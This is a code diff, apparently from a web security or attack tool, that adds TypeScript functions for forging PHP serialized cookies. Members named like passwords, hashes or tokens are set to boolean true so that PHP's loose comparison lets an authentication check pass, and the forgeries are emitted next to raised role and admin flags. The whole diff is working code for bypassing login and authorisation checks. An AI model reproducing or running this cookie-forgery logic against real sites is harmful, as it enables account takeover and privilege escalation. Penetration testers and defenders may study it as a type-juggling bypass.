@@ -403,6 +403,24 @@ export function phpLengths(text: string): string {
   return text.replace(/s:\d+:"(.*?)";/g, (_all, body: string) => `s:${Buffer.byteLength(body)}:"${body}";`);
 }
 
+/** Members of serialized data that hold a secret the server compares: a password, its hash, a token, a key. */
+const SECRET_MEMBER = /pass|pwd|hash|token|secret|key|sig|auth|remember|nonce/i;
+
+/**
+ * PHP serialized text with each string member named like a secret (`s:5:"token";s:32:"9f86..."`) set to the
+ * boolean true (`s:5:"token";b:1;`): PHP's loose `==` takes `true` as equal to any non-empty string, so a check
+ * that compares the member with the stored one passes. Undefined when no member is named so.
+ */
+export function phpSecretsTrue(text: string): string | undefined {
+  let changed = false;
+  const out = text.replace(/s:\d+:"([A-Za-z_][\w-]{0,30})";s:\d+:"[^"]{0,512}";/g, (all, key: string) => {
+    if (!SECRET_MEMBER.test(key)) return all;
+    changed = true;
+    return `s:${key.length}:"${key}";b:1;`;
+  });
+  return changed ? out : undefined;
+}
+
 /** A role member (`s:4:"role";s:4:"user";`) or an admin flag (`s:8:"is_admin";b:0;`) of PHP serialized text, raised. */
 function raisePhpRole(text: string, made?: string): string | undefined {
   let changed = false;
@@ -514,8 +532,22 @@ function identityForgeries(
       let text = layer.text;
       for (const [from, to] of pairs) text = replaceWord(text, from, to) ?? text;
       if (text === layer.text) continue;
-      if (PHP_SERIALIZED.test(text.trim())) text = phpLengths(text);
+      if (!PHP_SERIALIZED.test(text.trim())) {
+        out.push({ cookie, kind: layer.kind, value: layer.encode(text), before: layer.text, after: text });
+        continue;
+      }
+      text = phpLengths(text);
       out.push({ cookie, kind: layer.kind, value: layer.encode(text), before: layer.text, after: text });
+      // PHP compares loosely (`==`): a secret member unserialised as `true` equals any non-empty string.
+      const loose = phpSecretsTrue(text);
+      if (loose !== undefined)
+        out.push({
+          cookie,
+          kind: `${layer.kind}, its secret members set to true (b:1)`,
+          value: layer.encode(loose),
+          before: layer.text,
+          after: loose,
+        });
     }
   }
   return out;
